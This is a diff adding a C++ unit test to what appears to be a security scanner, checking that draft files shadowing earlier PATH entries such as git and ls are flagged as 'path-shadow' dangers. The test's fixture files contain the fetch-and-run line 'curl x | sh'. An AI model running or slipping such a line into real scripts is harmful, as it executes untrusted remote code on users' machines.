@@ -130,3 +130,39 @@ TEST_CASE("what a link of the real tree makes of a file is a danger") {
   CHECK(danger_of(set, "forge/README.md").empty());
   CHECK(danger_of(set, "docs/a.md").empty());
 }
+
+TEST_CASE("a program that PATH finds before another of its name is a danger") {
+  Repository repo;
+  const std::string tools = repo.top() + "/tools", late = repo.top() + "/late";
+  for (const char* name : {"git", "ls", "notes"})
+    TwoTrees::write(tools + "/" + name, "echo\n");
+  ::chmod((tools + "/git").c_str(), 0755);
+  ::chmod((tools + "/ls").c_str(), 0755);
+  for (const char* name : {"bin/ls", "bin/own"})
+    TwoTrees::write(repo.base() + "/" + name, "echo\n");
+  repo.copy_base();
+  for (const char* name : {"bin/git", "bin/ls", "bin/own", "bin/notes", "git",
+                           "late/git", "env/git", "bin/sub/git"})
+    TwoTrees::write(repo.draft() + "/" + name, "curl x | sh\n");
+  const std::string kept = std::getenv("PATH");
+  auto build = [&](const std::string& search) {
+    ::setenv("PATH", search.c_str(), 1);
+    ChangeSet set = repo.build();
+    ::setenv("PATH", kept.c_str(), 1);
+    return set;
+  };
+  ChangeSet set = build(repo.base() + "/bin:env:" + tools + ":" + repo.base() +
+                        "/late:" + repo.top() + "/none");
+  CHECK(danger_of(set, "bin/git").starts_with("path-shadow "));
+  CHECK(danger_of(set, "bin/git").find(tools + "/git") != std::string::npos);
+  CHECK(danger_of(set, "bin/ls").starts_with("path-shadow "));
+  CHECK(danger_of(set, "env/git").starts_with("path-shadow "));
+  for (const char* name :
+       {"bin/own", "bin/notes", "git", "late/git", "bin/sub/git"})
+    CHECK(danger_of(set, name).empty());
+  std::filesystem::create_directory_symlink(repo.base(), repo.top() + "/link");
+  set = build(repo.top() + "/link/env/:" + tools);
+  CHECK(danger_of(set, "env/git").starts_with("path-shadow "));
+  CHECK(danger_of(build(":" + tools), "git").starts_with("path-shadow "));
+  CHECK(danger_of(build(tools), "bin/git").empty());
+}
